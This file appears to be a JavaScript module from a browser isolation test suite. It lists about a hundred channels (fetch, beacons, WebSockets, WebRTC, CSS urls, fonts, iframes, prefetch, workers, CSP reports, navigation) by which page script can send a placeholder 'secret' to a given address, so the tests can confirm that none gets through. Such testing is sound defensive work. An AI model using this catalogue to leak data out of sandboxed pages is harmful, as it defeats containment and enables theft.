// Every way we know by which a script in a page could send something out, each a function of the address it is to reach.
//
// The page tries them on itself when it is asked to (“Check for yourself”), at names that do not exist; the tests hand them to
// pages as they stand, with listeners that do exist, so that each is whole in itself. `to` holds `url` (http), `host` and `port`.
// What is returned only says whether a way has ended: what counts is what arrives.

/** Leave the document as it was: all of these run side by side in one page. */
export const STAYING = {
  fetch: (to) => fetch(`${to.url}?d=secret`, { mode: 'no-cors' }),
  fetchKeepalive: (to) => fetch(to.url, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }),
  fetchLater: (to) => globalThis.fetchLater(to.url, { activateAfter: 0 }),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open('POST', to.url);
    request.send('secret');
  },
  beacon: (to) => navigator.sendBeacon(to.url, 'secret'),
  websocket: (to) => void new WebSocket(`ws://${to.host}:${to.port}/`),
  websocketStream: (to) => void new WebSocketStream(`ws://${to.host}:${to.port}/`),
  eventsource: (to) => void new EventSource(to.url),
  webtransport: (to) => void new WebTransport(`https://${to.host}:${to.port}/`),
  webrtc: async (to) => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:${to.host}:${to.port}` }] });
    call.createDataChannel('d');
    await call.setLocalDescription(await call.createOffer());
  },
  webrtcTurnTcp: async (to) => {
    const call = new RTCPeerConnection({
      iceServers: [{ urls: `turn:${to.host}:${to.port}?transport=tcp`, username: 'secret', credential: 'secret' }],
      iceTransportPolicy: 'relay',
    });
    call.createDataChannel('d');
    await call.setLocalDescription(await call.createOffer());
  },
  webrtcFrame: async (to) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    const call = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${to.host}:${to.port}` }] });
    call.createDataChannel('d');
    await call.setLocalDescription(await call.createOffer());
  },
  img: (to) => {
    new Image().src = to.url;
  },
  imgSrcset: (to) => {
    const image = new Image();
    image.srcset = `${to.url} 1x`;
    document.body.append(image);
  },
  imgAttributionsrc: (to) => {
    const image = new Image();
    image.setAttribute('attributionsrc', to.url);
    image.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
    document.body.append(image);
  },
  inputImage: (to) => {
    const input = document.createElement('input');
    input.type = 'image';
    input.src = to.url;
    document.body.append(input);
  },
  bodyBackground: (to) => document.body.setAttribute('background', to.url),
  videoPoster: (to) => {
    const video = document.createElement('video');
    video.poster = to.url;
    document.body.append(video);
  },
  video: (to) => {
    const video = document.createElement('video');
    video.src = to.url;
    document.body.append(video);
    video.load();
  },
  audio: (to) => {
    const audio = new Audio(to.url);
    document.body.append(audio);
    audio.load();
  },
  track: (to) => {
    const video = document.createElement('video');
    const track = document.createElement('track');
    track.src = to.url;
    track.default = true;
    video.append(track);
    document.body.append(video);
    track.track.mode = 'showing';
  },
  mediaSession: (to) => {
    navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: to.url, sizes: '96x96', type: 'image/png' }] });
  },
  cssBackground: (to) => {
    const element = document.body.appendChild(document.createElement('div'));
    element.style.cssText = `width:9px;height:9px;background:url(${to.url})`;
  },
  cssCursor: (to) => {
    const element = document.body.appendChild(document.createElement('div'));
    element.style.cssText = `width:9px;height:9px;cursor:url(${to.url}),auto`;
  },
  cssFilter: (to) => {
    const element = document.body.appendChild(document.createElement('div'));
    element.style.cssText = `width:9px;height:9px;filter:url(${to.url}#x)`;
  },
  cssMask: (to) => {
    const element = document.body.appendChild(document.createElement('div'));
    element.style.cssText = `width:9px;height:9px;-webkit-mask:url(${to.url}#x);mask:url(${to.url})`;
  },
  cssInsertRule: (to) => {
    const sheet = document.styleSheets[0] ?? document.head.appendChild(document.createElement('style')).sheet;
    sheet.insertRule(`html{border-image:url(${to.url}) 1;border:1px solid}`, sheet.cssRules.length);
  },
  cssInsertImport: (to) => {
    const sheet = document.head.appendChild(document.createElement('style')).sheet ?? document.styleSheets[0];
    sheet.insertRule(`@import url(${to.url})`, 0);
  },
  cssStyleElement: (to) => {
    const style = document.createElement('style');
    style.textContent = `@import url(${to.url});`;
    document.head.append(style);
  },
  cssAdopted: (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body{list-style:square url(${to.url});display:list-item}`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  cssAttrUrl: (to) => {
    const element = document.body.appendChild(document.createElement('div'));
    element.setAttribute('style', `width:9px;height:9px;background-image:image-set(url(${to.url}) 1x)`);
  },
  stylesheetLink: (to) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = to.url;
    document.head.append(link);
  },
  fontFace: (to) => {
    const font = new FontFace('egress', `url(${to.url})`);
    document.fonts.add(font);
    return font.load();
  },
  fontRule: (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`@font-face{font-family:egress2;src:url(${to.url})} .egress2{font-family:egress2}`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    const element = document.body.appendChild(document.createElement('p'));
    element.className = 'egress2';
    element.textContent = 'x';
  },
  script: (to) => {
    const script = document.createElement('script');
    script.src = to.url;
    document.head.append(script);
  },
  scriptTT: (to) => {
    const rules = globalThis.trustedTypes?.createPolicy('egress', { createScriptURL: (url) => url });
    const script = document.createElement('script');
    script.src = rules ? rules.createScriptURL(to.url) : to.url;
    document.head.append(script);
  },
  import: (to) => import(to.url),
  svgImage: (to) => {
    const svg = document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));
    const image = svg.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'image'));
    image.setAttribute('href', to.url);
  },
  svgUse: (to) => {
    const svg = document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));
    const use = svg.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'use'));
    use.setAttribute('href', `${to.url}#x`);
  },
  svgFeImage: (to) => {
    const of = (name) => document.createElementNS('http://www.w3.org/2000/svg', name);
    const svg = document.body.appendChild(of('svg'));
    const filter = svg.appendChild(of('filter'));
    filter.id = 'egress-filter';
    filter.appendChild(of('feImage')).setAttribute('href', to.url);
    const rect = svg.appendChild(of('rect'));
    rect.setAttribute('width', '9');
    rect.setAttribute('height', '9');
    rect.setAttribute('filter', 'url(#egress-filter)');
  },
  svgScript: (to) => {
    const svg = document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));
    const script = document.createElementNS('http://www.w3.org/2000/svg', 'script');
    script.setAttribute('href', to.url);
    svg.append(script);
  },
  iframe: (to) => {
    const frame = document.createElement('iframe');
    frame.src = to.url;
    document.body.append(frame);
  },
  iframeSrcdoc: (to) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<img src="${to.url}">`;
    document.body.append(frame);
  },
  iframeData: (to) => {
    const frame = document.createElement('iframe');
    frame.src = `data:text/html,<img src="${to.url}">`;
    document.body.append(frame);
  },
  iframeBlob: (to) => {
    const frame = document.createElement('iframe');
    frame.src = URL.createObjectURL(new Blob([`<img src="${to.url}">`], { type: 'text/html' }));
    document.body.append(frame);
  },
  frameFetch: (to) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    return frame.contentWindow.fetch(to.url, { mode: 'no-cors' });
  },
  frameLocation: (to) => {
    const frame = document.body.appendChild(document.createElement('iframe'));
    frame.contentWindow.location = to.url;
  },
  object: (to) => {
    const object = document.createElement('object');
    object.data = to.url;
    document.body.append(object);
  },
  embed: (to) => {
    const embed = document.createElement('embed');
    embed.src = to.url;
    document.body.append(embed);
  },
  fencedframe: (to) => {
    const frame = document.createElement('fencedframe');
    frame.config = new FencedFrameConfig(to.url);
    document.body.append(frame);
  },
  prefetch: (to) => {
    const link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = to.url;
    document.head.append(link);
  },
  prerender: (to) => {
    const link = document.createElement('link');
    link.rel = 'prerender';
    link.href = to.url;
    document.head.append(link);
  },
  preconnect: (to) => {
    const link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = to.url;
    document.head.append(link);
  },
  dnsPrefetch: (to) => {
    const link = document.createElement('link');
    link.rel = 'dns-prefetch';
    link.href = to.url;
    document.head.append(link);
  },
  dnsLinkHover: (to) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = to.url;
    link.textContent = 'x';
    link.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
  },
  preloadFetch: (to) => {
    const link = document.createElement('link');
    link.rel = 'preload';
    link.as = 'fetch';
    link.crossOrigin = 'anonymous';
    link.href = to.url;
    document.head.append(link);
  },
  preloadImg: (to) => {
    const link = document.createElement('link');
    link.rel = 'preload';
    link.as = 'image';
    link.href = to.url;
    document.head.append(link);
  },
  modulepreload: (to) => {
    const link = document.createElement('link');
    link.rel = 'modulepreload';
    link.href = to.url;
    document.head.append(link);
  },
  speculation: (to) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to.url], eagerness: 'immediate' }] });
    document.head.append(script);
  },
  icon: (to) => {
    for (const old of document.querySelectorAll('link[rel=icon]')) old.remove();
    const link = document.createElement('link');
    link.rel = 'icon';
    link.href = to.url;
    document.head.append(link);
  },
  manifest: (to) => {
    const link = document.createElement('link');
    link.rel = 'manifest';
    link.href = to.url;
    document.head.append(link);
  },
  windowOpen: (to) => void window.open(to.url),
  windowOpenNoopener: (to) => void window.open(to.url, '_blank', 'noopener'),
  blobPopup: (to) => void window.open(URL.createObjectURL(new Blob([`<img src="${to.url}">`], { type: 'text/html' }))),
  linkClickBlank: (to) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = to.url;
    link.target = '_blank';
    link.click();
  },
  linkPing: (to) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = '#egress';
    link.ping = to.url;
    link.click();
  },
  formPostBlank: (to) => {
    const form = document.body.appendChild(document.createElement('form'));
    form.action = to.url;
    form.method = 'post';
    form.target = '_blank';
    form.submit();
  },
  worker: (to) => void new Worker(to.url),
  workerBlobFetch: (to) => {
    const text = `fetch(${JSON.stringify(to.url)}, { mode: 'no-cors' })`;
    void new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  },
  workerBlobImport: (to) => {
    const text = `importScripts(${JSON.stringify(to.url)})`;
    void new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
  },
  sharedWorker: (to) => void new SharedWorker(to.url),
  serviceWorker: (to) => navigator.serviceWorker.register(to.url),
  payment: async (to) => {
    const request = new PaymentRequest([{ supportedMethods: to.url }], { total: { label: 'x', amount: { currency: 'GBP', value: '1.00' } } });
    await request.canMakePayment();
  },
  fedcm: (to) =>
    navigator.credentials.get({ identity: { providers: [{ configURL: to.url, clientId: 'x' }] } }),
  innerHTML: (to) => {
    document.body.appendChild(document.createElement('div')).innerHTML = `<img src="${to.url}">`;
  },
  xslt: (to) => {
    const parse = (text) => new DOMParser().parseFromString(text, 'text/xml');
    const rules = new XSLTProcessor();
    rules.importStylesheet(parse('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><img><xsl:attribute name="src"><xsl:value-of select="/x"/></xsl:attribute></img></xsl:template></xsl:stylesheet>'));
    document.body.append(rules.transformToFragment(parse(`<x>${to.url}</x>`), document));
  },
  topLocation: (to) => {
    if (top === window) return;
    top.location = to.url;
  },
};

/** Take the document away or change its rules where they work: each runs in a page of its own. */
export const LEAVING = {
  location: (to) => {
    location.href = `${to.url}?d=secret`;
  },
  navigationApi: (to) => void navigation.navigate(to.url),
  metaRefresh: (to) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0;url=${to.url}`;
    document.head.append(meta);
  },
  linkClick: (to) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = to.url;
    link.click();
  },
  linkDownload: (to) => {
    const link = document.body.appendChild(document.createElement('a'));
    link.href = to.url;
    link.download = 'x';
    link.click();
  },
  formGet: (to) => {
    const form = document.body.appendChild(document.createElement('form'));
    form.action = to.url;
    const input = form.appendChild(document.createElement('input'));
    input.name = 'd';
    input.value = 'secret';
    form.submit();
  },
  documentWrite: (to) => {
    document.write(`<img src="${to.url}">`);
    document.close();
  },
  reportUriMeta: (to) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'Content-Security-Policy';
    meta.content = `img-src data:; report-uri ${to.url}`;
    document.head.append(meta);
    const image = document.createElement('img');
    image.src = 'https://candour.invalid/';
  },
  javascriptUrl: (to) => {
    location.href = `javascript:new Image().src=${JSON.stringify(to.url)}`;
  },
};

/** From within the worker that holds the data. */
export const IN_WORKER = {
  workerFetch: STAYING.fetch,
  workerXhr: STAYING.xhr,
  workerWebsocket: STAYING.websocket,
  workerEventsource: STAYING.eventsource,
  workerWebtransport: STAYING.webtransport,
  workerImportScripts: (to) => importScripts(to.url),
  workerImport: STAYING.import,
  workerWorker: STAYING.worker,
  workerWebrtc: STAYING.webrtc,
};
